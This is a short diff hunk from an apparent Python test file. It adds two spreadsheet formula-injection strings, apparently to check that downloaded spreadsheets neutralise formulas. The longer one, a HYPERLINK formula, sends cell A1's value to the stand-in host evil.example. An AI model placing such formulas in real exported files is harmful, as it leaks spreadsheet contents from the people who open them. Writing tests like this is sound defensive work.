@@ -9,6 +9,11 @@ from html.parser import HTMLParser
 
 from openpyxl import load_workbook
 
+# Text a spreadsheet would run as a formula, to show that every download guards it.
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Guidance")'
+# The same, short enough for a 40-character field (an agreement's reference).
+SHORT_EVIL = '=HYPERLINK("http://e.example","G")'
+
 
 class _Tables(HTMLParser):
     def __init__(self):
